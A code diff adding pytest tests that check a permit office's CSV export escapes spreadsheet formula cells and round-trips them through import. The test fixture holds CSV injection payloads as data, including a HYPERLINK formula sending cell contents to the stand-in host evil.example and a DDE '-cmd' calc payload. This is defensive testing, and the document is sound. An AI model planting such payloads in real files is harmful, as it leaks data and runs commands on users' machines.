@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import date
 from pathlib import Path
@@ -425,3 +427,92 @@ async def test_a_file_that_cannot_be_read_is_rejected_whole(
     with pytest.raises(ImportFileRejected) as rejected:
         await plan_import(store, decode_csv(data))
     assert (rejected.value.problem, rejected.value.detail) == (problem, detail)
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cells(text: str) -> list[str]:
+    """Every cell as a spreadsheet program splits the file (quotes removed, BOM dropped)."""
+    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    return [cell for record in reader for cell in record]
+
+
+async def risky_office(store: Store, clock: FakeClock) -> None:
+    """Cells a spreadsheet would run as formulas, next to the office's ordinary phone numbers."""
+    change = store.applications.change
+    first, _ = await store.applications.create(
+        "PBG", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', staff_id=STAFF,
+        contact="+62 812-3456-7890")
+    second, _ = await store.applications.create("SIP", "@SUM(1+1)", staff_id=STAFF,
+                                                contact="-5")
+    third, _ = await store.applications.create("REKLAME", "'=sudah dikutip", staff_id=STAFF,
+                                               contact="''+62 811")
+    clock.advance(hours=1)
+    await change(first.number, Action.RETURN, staff_id=STAFF, public_note="-cmd|' /C calc'!A0",
+                 internal_note="+1 lihat catatan")
+    await change(second.number, Action.NOTE, staff_id=STAFF, public_note="=1+1",
+                 internal_note="'Ali, bukan rumus")
+    await change(third.number, Action.NOTE, staff_id=STAFF, public_note="@kepala kantor")
+
+
+async def test_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula(
+        store: Store, clock: FakeClock) -> None:
+    await risky_office(store, clock)
+    # Values the bot itself strips, written as another tool might have left them.
+    async with store.database.transaction() as conn:
+        await conn.execute("UPDATE history SET internal_note = ? WHERE id = 1", ("\t=1+1",))
+        await conn.execute("UPDATE history SET internal_note = ? WHERE id = 2", ("\r=1+1",))
+
+    applications, history = await export_applications(store), await export_history(store)
+
+    cells = spreadsheet_cells(applications.text) + spreadsheet_cells(history.text)
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert "'+62 812-3456-7890" in cells
+    assert "'-5" in cells
+    assert """'=HYPERLINK("http://evil.example/?x="&A1,"klik")""" in cells
+    assert "'@SUM(1+1)" in cells
+    assert "''=sudah dikutip" in cells
+    assert "'''+62 811" in cells
+    assert "'-cmd|' /C calc'!A0" in cells
+    assert "'\t=1+1" in cells
+    assert "'\r=1+1" in cells
+    # A quote before anything harmless is the value itself, left alone.
+    assert "'Ali, bukan rumus" in cells
+
+
+async def test_quoted_cells_import_as_exactly_what_was_stored_and_export_identically(
+        store: Store, empty_store: Store, clock: FakeClock) -> None:
+    await risky_office(store, clock)
+    applications, history = await export_applications(store), await export_history(store)
+
+    plan = await plan_import(empty_store, applications.text, history.text)
+    assert plan.refusals == ()
+    await apply_import(empty_store, plan, staff_id=None)
+
+    for number in ("JBR-2026-000001", "JBR-2026-000002", "JBR-2026-000003"):
+        before = await store.applications.get(number)
+        after = await empty_store.applications.get(number)
+        assert (after.applicant_name, after.contact) == (before.applicant_name, before.contact)
+        notes = [(s.public_note, s.internal_note)
+                 for s in await store.applications.history(before.id)]
+        assert [(s.public_note, s.internal_note)
+                for s in await empty_store.applications.history(after.id)] == notes
+    assert (await export_applications(empty_store)).data == applications.data
+    assert (await export_history(empty_store)).data == history.data
+    # Imported again over itself, nothing differs.
+    again = await plan_import(empty_store, applications.text, history.text)
+    assert (len(again.created), len(again.changed), again.unchanged) == (0, 0, 3)
+
+
+async def test_a_hand_made_file_with_plain_phone_numbers_imports_them_as_they_are(
+        empty_store: Store) -> None:
+    plan = await plan_import(empty_store, csv_of(
+        "number,permit_type,applicant_name,contact,stage",
+        "JBR-2026-000010,PBG,Wayan,+62 812 1111,received",
+        "JBR-2026-000011,PBG,Made,'+62 812 2222,received"))
+    await apply_import(empty_store, plan, staff_id=None)
+
+    assert (await empty_store.applications.get("JBR-2026-000010")).contact == "+62 812 1111"
+    # A quote a spreadsheet user typed to keep the number as text is not part of it.
+    assert (await empty_store.applications.get("JBR-2026-000011")).contact == "+62 812 2222"
